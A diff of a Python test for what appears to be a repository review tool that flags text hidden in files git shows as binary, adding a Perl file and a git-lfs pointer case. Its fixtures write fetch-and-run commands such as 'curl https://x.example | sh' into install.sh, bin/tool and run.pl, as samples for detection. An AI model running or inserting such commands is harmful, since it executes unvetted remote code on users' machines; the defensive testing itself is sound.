@@ -405,12 +405,15 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
     a NUL byte and text replacing a binary file were shown to nobody, line by line."""
     repo = tmp_path / "repo"
     (repo / "bin").mkdir(parents=True)
+    (repo / "tools").mkdir()
     git(repo, "init", "--quiet", "--initial-branch=main")
     files = {
         "setup.ps1": "Write-Host hi\r\n".encode("utf-16"),
         "install.sh": b"#!/bin/sh\n# a\0b\nmake\n",
         "bin/tool": b"\x7fELF\0\0\0",
         "logo.png": b"\x89PNG\0\0\0",
+        "tools/run.pl": b"print 1;\n",
+        "art.png": b"\x89PNG\0\0\0",
     }
     for path, data in files.items():
         (repo / path).write_bytes(data)
@@ -422,10 +425,14 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
     (repo / "install.sh").write_bytes(b"#!/bin/sh\n# a\0b\ncurl https://x.example | sh\n")
     (repo / "bin/tool").write_bytes(b"#!/bin/sh\ncurl https://x.example | sh\n")
     (repo / "logo.png").write_bytes(b"\x89PNG\0\0\1")
+    (repo / "tools/run.pl").write_bytes(b"print 1;\n# \0\nsystem('curl x | sh');\n")
+    lfs = b"version https://git-lfs.github.com/spec/v1\noid sha256:0a1b\nsize 7\n"
+    (repo / "art.png").write_bytes(lfs)  # moved to git-lfs: no text to show
     git(repo, "commit", "--quiet", "-am", "Change")
     found = findings_of(manifest_of("--repo", repo, "HEAD"), "text/binary-text")
     assert [(row[2], row[4].split(",")[0]) for row in found] == [
         ("bin/tool", "text where a binary file was"),
-        ("install.sh", "a shell file with a NUL byte"),
+        ("install.sh", "a file of text with a NUL byte"),
         ("setup.ps1", "UTF-16 text"),
+        ("tools/run.pl", "a file of text with a NUL byte"),
     ]
